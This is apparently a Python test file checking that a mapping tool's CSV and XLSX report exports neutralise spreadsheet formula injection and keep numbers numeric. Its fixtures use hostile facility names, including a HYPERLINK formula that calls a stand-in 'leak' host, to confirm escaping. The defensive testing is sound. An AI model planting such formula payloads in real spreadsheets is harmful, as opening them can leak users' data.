"""Spreadsheet outputs never carry a live formula (OWASP CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from soja_map.analysis import report as report_io
from soja_map.analysis.coverage import coverage, what_if
from soja_map.i18n import translator
from tests import coverage_layouts as lay

NAME = '=HYPERLINK("http://example.invalid/?leak","町")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def xlsx_cells(book: Any) -> list[Any]:
    """Every cell of every sheet (the table, the 説明 sheet and the gaps), asserting none is a
    formula."""
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    for cell in cells:
        assert cell.data_type != "f", (cell.parent.title, cell.coordinate, cell.value)
    return cells


@pytest.fixture(scope="module")
def hostile():
    """A coverage whose facility names begin with every formula trigger."""
    names = [NAME, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "a,=1+1"]
    centre = lay.CENTRES["SW"]
    points = {n: (centre[0] + i, centre[1]) for i, n in enumerate(names)}
    return coverage(lay.context(), lay.facilities(**points), 600)


@pytest.fixture(scope="module")
def hostile_what_if():
    """A what-if removing the facility named like a formula: its name begins a metadata value."""
    centre = lay.CENTRES["SW"]
    facilities = lay.facilities(**{NAME: centre, "b": (centre[0] + 1, centre[1])})
    return what_if(lay.context(), facilities, 600, remove=[NAME])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_text_beginning_with_a_trigger_is_neutralised(value: str) -> None:
    assert report_io.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [0, -3, 1.5, -0.25, "町", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert report_io.safe_cell(value) == value


@pytest.mark.parametrize("lang", ["ja", "en"])
@pytest.mark.parametrize("which", ["coverage", "what_if"])
def test_no_csv_cell_starts_a_formula(hostile, hostile_what_if, lang: str, which: str) -> None:
    report = hostile if which == "coverage" else hostile_what_if
    text = report_io.to_csv(report, "town", translator(lang)).lstrip("\ufeff")
    assert "HYPERLINK" in text  # the name is kept, as text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        assert not cell.lstrip(" ").startswith(TRIGGERS), cell
    # the table's numbers are still numbers
    rows = list(csv.reader(io.StringIO(text)))
    table = [r for r in rows if r and not r[0].startswith("#")]
    assert all(float(v) >= 0 for r in table[1:] for v in r[1:])


@pytest.mark.parametrize("which", ["coverage", "what_if"])
def test_no_xlsx_cell_is_a_formula(hostile, hostile_what_if, which: str) -> None:
    report = hostile if which == "coverage" else hostile_what_if
    data = report_io.to_xlsx(report, "town", translator("ja"))
    book = load_workbook(io.BytesIO(data))
    texts = [c.value for c in xlsx_cells(book) if isinstance(c.value, str)]
    assert any(NAME in t for t in texts)  # shown as the name it is
    numbers = [
        c.value
        for row in book.worksheets[0].iter_rows()
        for c in row
        if isinstance(c.value, int | float)
    ]
    assert numbers  # the table's numbers are numbers, not text
